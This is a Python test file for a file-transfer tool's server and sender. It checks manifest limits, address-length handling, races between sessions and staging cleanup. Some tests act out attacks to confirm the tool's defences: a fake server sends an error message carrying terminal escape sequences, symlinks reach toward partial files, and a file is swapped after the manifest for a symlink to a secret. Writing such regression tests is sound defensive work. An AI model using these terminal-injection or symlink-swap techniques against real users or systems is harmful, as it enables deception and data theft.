def test_manifest_counts_refused_early(env):
    """--max-files is checked as soon as the count is read (a manifest that claims 10001 files
    is refused for that, not decoded first), and a manifest of more than 2^31 chunks in all is
    refused before anything is looked at (32-bit chunk numbers in the scheduler would wrap)."""
    dst = os.path.join(env.dir, "dst")
    os.makedirs(dst)
    _, port = start_serve(env, dst)
    w = Wire.dial(port)
    assert w.hello(os.urandom(16))[0] == OK
    w.send(MANIFEST, struct.pack("<III", 64 * 1024, 10001, 0))  # the count, then nothing
    t, meta, _ = w.frame()
    w.close()
    assert t == ERR and b"too many files" in meta, (t, meta)
    each = ((1 << 30) + 1) * 4096
    w, t, meta = hold_manifest(port, [("a", each, 0o644), ("b", each, 0o644)], chunk=4096)
    w.close()
    assert t == ERR and b"chunks" in meta, (t, meta)


def test_long_address_lists_refused(env):
    """--relay-to and --listen longer than serve's buffer are refused, not cut short: cut at
    2047 characters, '127.0.0.1/000...032' became 127.0.0.1/0, which relays anywhere."""
    dst = os.path.join(env.dir, "dst")
    os.makedirs(dst)
    for name, args in (("relay", ["--listen", f"127.0.0.1:{free_port()}", "--relay-to",
                                  "127.0.0.1/" + "0" * 2100 + "32"]),
                       ("listen", ["--listen", "127.0.0.1:" + "0" * 2100 + str(free_port())])):
        p = env.start([BIN, "xfer", "serve", "--dir", dst, "--insecure"] + args, name)
        wait_until(lambda: p.poll() is not None or "listening" in env.log(p), f"{name}: serve to exit or listen")
        assert p.poll() is not None and p.returncode != 0 and "too long" in env.log(p), (name, env.log(p))


def test_mode_zero_stays_zero(env):
    """A file sent with mode 0 lands with mode 0 (0 & ~umask), not 0644."""
    dst = os.path.join(env.dir, "dst")
    os.makedirs(dst)
    _, port = start_serve(env, dst)
    data = os.urandom(1000)
    w = data_session(port, [("z", len(data), 0)])
    assert send_chunks(w, data) == [0]
    w.send(FINISH, whole_hash([xxh64(data)]))
    assert w.frame()[0] == DONE
    mode = os.stat(os.path.join(dst, "z")).st_mode & 0o7777
    assert mode == 0, oct(mode)


def test_peer_error_text_is_not_printed_raw(env):
    """A hostile server's ERR text with terminal escapes and newlines reaches the user's
    terminal without its control characters."""
    ls = socket.socket()
    ls.bind(("127.0.0.1", 0))
    ls.listen(4)
    env.on_cleanup.append(ls.close)
    evil = b"\x1b]0;owned\x07\x1b[2J\rfake: transfer complete\n"

    def fake():
        c, _ = ls.accept()
        c.settimeout(20)
        w = Wire(c)
        w.welcome(ERR, evil)
        c.close()
    th = threading.Thread(target=fake, daemon=True)
    th.start()
    src = make_file(os.path.join(env.dir, "f.bin"), 1000)
    r = subprocess.run([BIN, "xfer", "send", src, f"127.0.0.1:{ls.getsockname()[1]}", "--quiet"],
                       capture_output=True, timeout=60)
    th.join(10)
    assert r.returncode != 0, r.stderr
    assert b"owned" in r.stderr, r.stderr
    assert not any(c < 0x20 and c != 0x0a or c == 0x7f for c in r.stderr), r.stderr
    assert r.stderr.count(b"\n") == 1, r.stderr


def test_get_does_not_reach_partial_files(env):
    """`get` of a symlink inside DIR that points at DIR itself or at its directory of partial
    files is refused: the parts and their state are not served."""
    served, to = os.path.join(env.dir, "served"), os.path.join(env.dir, "to")
    os.makedirs(os.path.join(served, ".accelnet-xfer"))
    os.makedirs(to)
    make_file(os.path.join(served, ".accelnet-xfer", "0123.part"), 1000)
    make_file(os.path.join(served, "ok.bin"), 1000)
    os.symlink(".accelnet-xfer", os.path.join(served, "st"))
    os.symlink(".", os.path.join(served, "self"))
    _, port = start_serve(env, served)
    for name in ("st", "self", "self/.accelnet-xfer/0123.part"):
        rc, err = get(port, [name], to)
        got = [os.path.join(d, f) for d, _, fs in os.walk(to) for f in fs]
        assert rc != 0 and not any("0123" in g for g in got), (name, rc, err, got)
    rc, err = get(port, ["ok.bin"], to)
    assert rc == 0, err


def _lock_free(path):
    """Could anyone take the lock the server holds on a state file while a transfer writes?"""
    with open(path, "rb") as f:
        try:
            fcntl.flock(f, fcntl.LOCK_EX | fcntl.LOCK_NB)
        except BlockingIOError:
            return False
        fcntl.flock(f, fcntl.LOCK_UN)
        return True


def test_a_later_writer_cannot_change_a_completed_part(env):
    """Session H sends its manifest for x before session V's first chunk (H's snapshot of the
    part is empty); V sends every chunk, so its part is complete and let go until FINISH. Then
    H sends chunk 0, once with a wrong hash and once with one that matches its bytes: neither
    may land in V's verified chunk. V's FINISH then answers DONE and x is V's data."""
    dst = os.path.join(env.dir, "dst")
    os.makedirs(dst)
    _, port = start_serve(env, dst)
    chunk = 64 * 1024
    data = os.urandom(2 * chunk)
    fx = [("x", len(data), 0o644, 123456789)]
    fin = whole_hash([xxh64(p) for p in chunks_of(data, chunk)])
    h = data_session(port, fx)
    v = data_session(port, fx)
    assert send_chunks(v, data) == [0, 0]
    junk = bytes(chunk)
    acks = []
    for claimed in (12345, xxh64(junk)):
        h.send(CHUNK, struct.pack("<IIQ", 0, 0, claimed), junk)
        t, meta, _ = h.frame()
        acks.append((t, meta[8] if t == ACK else meta))
    h.close()
    # the server lets go of H's hold on x (a lock on its state file) once it sees H gone
    state = os.path.join(dst, ".accelnet-xfer")
    wait_until(lambda: all(_lock_free(os.path.join(state, n)) for n in os.listdir(state)
                           if n.endswith(".state")), "H's hold on x to be released")
    v.send(FINISH, fin)
    t, meta, _ = v.frame()
    final = os.path.join(dst, "x")
    got = open(final, "rb").read() if os.path.exists(final) else None
    assert got == data, f"x is not V's data (FINISH: {t} {meta!r}; chunk 0 zeros: {got is not None and got[:chunk] == junk})"
    assert t == DONE, (t, meta)
    assert acks == [(ACK, 1), (ACK, 1)], f"H's chunk 0 not answered as a duplicate: {acks}"


def test_a_wrong_finish_leaves_anothers_part(env):
    """Session H resumes V's complete part and sends FINISH with a wrong whole hash: H is
    refused, but the part it did not create stays, and V's FINISH completes x."""
    dst, port, data, fx, v = _one_file_sent(env)
    h = data_session(port, fx)
    h.send(FINISH, bytes(16))
    t, meta, _ = h.frame()
    assert t == ERR, (t, meta)
    h.close()
    v.send(FINISH, whole_hash([xxh64(p) for p in chunks_of(data, 64 * 1024)]))
    t, meta, _ = v.frame()
    assert t == DONE, (t, meta)
    with open(os.path.join(dst, "x"), "rb") as f:
        assert f.read() == data


def test_send_refuses_a_file_replaced_after_the_manifest(env):
    """Someone who can write into a tree that root sends swaps one of its files, after the
    manifest, for a symlink to a secret of the same size and modification time (the walk
    skipped symlinks; the file is opened only when its chunk goes). The sender refuses the
    file, which is no longer the one the manifest was made from, and the secret's bytes
    never reach the receiver."""
    tree = os.path.join(env.dir, "tree")
    os.makedirs(tree)
    secret = os.path.join(env.dir, "secret")
    with open(secret, "wb") as f:
        f.write(b"S" * 1000)
    victim = os.path.join(tree, "a.txt")
    with open(victim, "wb") as f:
        f.write(b"a" * 1000)
    st = os.stat(secret)
    os.utime(victim, ns=(st.st_atime_ns, st.st_mtime_ns))
    ls = socket.socket()
    ls.bind(("127.0.0.1", 0))
    ls.listen(4)
    env.on_cleanup.append(ls.close)
    got = {"data": b""}

    def receiver():
        c, _ = ls.accept()
        c.settimeout(20)
        w = Wire(c)
        try:
            w.welcome()
            assert w.frame()[0] == MANIFEST
            os.unlink(victim)
            os.symlink(secret, victim)
            w.send(NEED, b"\x01")  # one file of one chunk, needed
            while True:
                t, meta, dlen = w.frame()
                if t != CHUNK:
                    break
                got["data"] += w.exact(dlen)
                w.send(ACK, meta[:8] + b"\x00")
        except (OSError, ConnectionError, AssertionError, struct.error):
            pass
        c.close()
    th = threading.Thread(target=receiver, daemon=True)
    th.start()
    r = subprocess.run([BIN, "xfer", "send", tree, f"127.0.0.1:{ls.getsockname()[1]}", "--streams", "1",
                        "--json", "--quiet"], capture_output=True, text=True, timeout=60)
    th.join(10)
    assert b"S" * 100 not in got["data"], "the secret was sent"
    assert r.returncode != 0 and "changed since the transfer started" in json.loads(r.stdout)["error"], \
        (r.stdout, r.stderr)


def test_chunk_trickled_in_pieces_is_acknowledged(env):
    """The receiver sleeps until a piece of a chunk has arrived (a low-water mark on the socket):
    a chunk sent in uneven bursts, its last bytes alone and nothing after them, is answered
    without waiting for bytes beyond the chunk, and lands byte-exact."""
    dst = os.path.join(env.dir, "dst")
    os.makedirs(dst)
    _, port = start_serve(env, dst)
    chunk = 1024 * 1024
    data = os.urandom(chunk)
    w = Wire.dial(port, timeout=20)
    assert w.hello(os.urandom(16))[0] == OK
    w.send(MANIFEST, manifest([("t", len(data), 0o644, 123456789)], chunk=chunk))
    assert w.frame()[0] == NEED
    head = struct.pack("<IBBHII", MAGIC, CHUNK, 0, 0, 16, len(data))
    w.s.sendall(head + struct.pack("<IIQ", 0, 0, xxh64(data)))
    for a, b in ((0, 300 * 1024), (300 * 1024, 500 * 1024), (500 * 1024, chunk - 1000),
                 (chunk - 1000, chunk)):
        w.s.sendall(data[a:b])
        time.sleep(0.1)  # the next burst comes later: each is read as it stands
    t, meta, _ = w.frame()  # a receiver waiting for more than the chunk times this out (20 s)
    assert t == ACK and meta[8] == 0, (t, meta)
    w.send(FINISH, whole_hash([xxh64(data)]))
    assert w.frame()[0] == DONE
    with open(os.path.join(dst, "t"), "rb") as f:
        assert f.read() == data


# a small file's BATCH and an end-game CHUNK copy of it at once (the sender sends a copy as a
# CHUNK, never as a BATCH): the chunk's writer creates a part and state for the file, the batch
# puts it in place whole. Once DONE is answered nothing of the transfer stays in staging.

def test_batch_beside_a_chunk_copy_leaves_no_staging(env):
    """Connection B's CHUNK copy of a small file is being written (its part created) when
    connection A's BATCH puts the same file in place; then the copy is cut (the sender, with
    every answer, cuts a stream holding only copies), left to FINISH to end, or completed. In
    each case FINISH answers DONE, the file is intact and the staging directory is empty."""
    dst = os.path.join(env.dir, "dst")
    state = os.path.join(dst, ".accelnet-xfer")
    os.makedirs(dst)
    _, port = start_serve(env, dst)
    for n, ending in enumerate(("cut", "finish ends it", "completed")):
        data = os.urandom(1000 + n)
        name = f"small{n}.txt"
        session = os.urandom(16)
        a = Wire.dial(port)
        assert a.hello(session)[0] == OK
        a.send(MANIFEST, manifest([(name, len(data), 0o644, 123456789)]))
        assert a.frame()[0] == NEED
        b = Wire.dial(port)
        assert b.hello(session)[0] == OK
        b.send(CHUNK, struct.pack("<IIQ", 0, 0, xxh64(data)), data[:500], data_len=len(data))
        wait_until(lambda: any(f.endswith(".part") for f in os.listdir(state)),
                   "the copy's writer holding a part")
        a.send(BATCH, struct.pack("<IIIQ", 1, 0, len(data), xxh64(data)), data)
        t, meta, _ = a.frame()
        assert t == BATCH_ACK and meta[8] == 0, (ending, t, meta)  # put in place
        if ending == "cut":
            b.close()
        elif ending == "completed":
            b.s.sendall(data[500:])
            t, meta, _ = b.frame()
            assert t == ACK and meta[8] == 1, (ending, t, meta)  # a duplicate
        a.send(FINISH, whole_hash([xxh64(data)]))
        t, meta, _ = a.frame()
        assert t == DONE, (ending, t, meta)
        with open(os.path.join(dst, name), "rb") as f:
            assert f.read() == data, ending
        left = os.listdir(state)
        assert left == [], f"{ending}: left in the staging directory after DONE: {left}"
        a.close()
        b.close()
